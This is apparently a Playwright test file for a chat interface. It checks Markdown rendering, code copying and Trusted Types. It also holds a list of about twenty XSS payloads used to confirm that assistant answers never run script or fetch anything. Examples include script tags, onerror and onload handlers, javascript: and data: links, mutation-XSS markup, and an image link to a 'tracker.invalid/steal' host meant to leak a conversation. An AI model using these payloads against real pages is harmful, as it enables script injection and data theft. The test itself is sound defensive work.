"""Claims about Markdown in answers: it is shown as it is meant, and nothing of it can run or fetch anything."""

from __future__ import annotations

EXAMPLE = """# Title

Some *emphasis*, **weight**, ~~gone~~ and `code`.

| name | size |
|:--|--:|
| a | x |

- one
    - nested

> quoted

```python
def answer() -> str:
    return "yes"
```

<b>not bold</b> [link](https://example.org/a)
"""

#: What makes a browser run or fetch something where text becomes markup.
ATTACKS = [
    "<script>window.hacked = true</script>",
    "<img src=x onerror='window.hacked = true'>",
    "<svg onload=window.hacked=true><animate onbegin=window.hacked=true attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hacked = true</script>'></iframe>",
    "[click](javascript:window.hacked=true)",
    "[click](  JaVaScRiPt&colon;window.hacked=true)",
    "[click](data:text/html,<script>opener.hacked=true</script>)",
    "[click](vbscript:hacked)",
    "<javascript:window.hacked=true>",
    "![x](javascript:window.hacked=true)",
    "![x](https://tracker.invalid/steal?conversation=all)",
    '![x](x "onerror=window.hacked=true")',
    "```html\n<img src=x onerror=window.hacked=true>\n</code></pre><script>window.hacked = true</script>\n```",
    '```"><script>window.hacked=true</script>\ncode\n```',
    "`<script>window.hacked = true</script>`",
    "| a |\n|---|\n| <img src=x onerror=window.hacked=true> |",
    "<style>body { display: none }</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=true>",
    "[a]: javascript:window.hacked=true\n\n[a]",
    "<a href='javascript:window.hacked=true' onmouseover='window.hacked=true'>x</a>",
]


def test_markdown_becomes_the_elements_that_it_means(parrot, open_page, say):
    page = open_page(parrot)
    say(page, EXAMPLE)
    prose = page.locator(".prose")
    assert prose.get_by_role("heading", name="Title").count() == 1
    assert [prose.locator(tag).inner_text() for tag in ("em", "strong", "s", "p code")] == [
        "emphasis",
        "weight",
        "gone",
        "code",
    ]
    assert prose.get_by_role("cell").all_inner_texts() == ["a", "x"]
    assert prose.locator("li li").inner_text() == "nested"
    assert prose.locator("blockquote").inner_text() == "quoted"
    assert "<b>not bold</b>" in prose.inner_text()
    link = prose.get_by_role("link", name="link")
    assert (link.get_attribute("href"), link.get_attribute("rel")) == ("https://example.org/a", "noopener noreferrer")
    block = prose.locator("figure.code-block")
    assert block.locator(".hl-keyword").all_inner_texts() == ["def", "return"]
    assert block.locator("code").text_content() == 'def answer() -> str:\n    return "yes"\n'


def test_code_is_copied_as_it_was_written(parrot, open_page, say):
    page = open_page(parrot, permissions=["clipboard-read", "clipboard-write"])
    say(page, EXAMPLE)
    page.get_by_role("button", name="Copy code").click()
    page.get_by_text("Copied", exact=True).wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == 'def answer() -> str:\n    return "yes"\n'


def test_nothing_that_a_model_says_runs_or_fetches(parrot, open_page, say):
    page = open_page(parrot)
    for attack in ATTACKS:
        say(page, attack)
        answer = page.locator(".message.assistant").last
        made = answer.locator("script, iframe, img, style, form, object, embed, base, meta, math, [onerror], [onload]")
        assert made.count() == 0, attack
        for link in answer.get_by_role("link").all():
            assert link.get_attribute("href").startswith(("https:", "http:", "mailto:")), attack
        for text in answer.locator(".prose span").all():
            text.click()
        assert page.evaluate("window.hacked") is None, attack
        assert page.locator("body").is_visible()
    # the fixture sees to it that nobody but the server was asked for anything


def test_the_browser_itself_would_refuse_markup_made_of_text(parrot, open_page):
    """Trusted Types: even a defect of the page's own scripts could not turn an answer into markup."""
    page = open_page(parrot)
    refused = page.evaluate(
        "() => { try { document.body.innerHTML = '<b>x</b>'; return 'made' } catch (error) { return error.name } }"
    )
    assert refused == "TypeError"


def test_a_long_answer_keeps_what_is_selected_in_it_while_it_grows(slow_parrot, open_page, wait_for_answer):
    page = open_page(slow_parrot)
    page.get_by_role("textbox", name="Message").fill("first paragraph\n\nsecond paragraph with a good many words in it")
    page.keyboard.press("Enter")
    first = page.locator(".prose p", has_text="first paragraph")
    page.locator(".prose p", has_text="second").wait_for()
    first.evaluate("element => getSelection().selectAllChildren(element)")
    wait_for_answer(page)
    assert page.evaluate("getSelection().toString()") == "first paragraph"
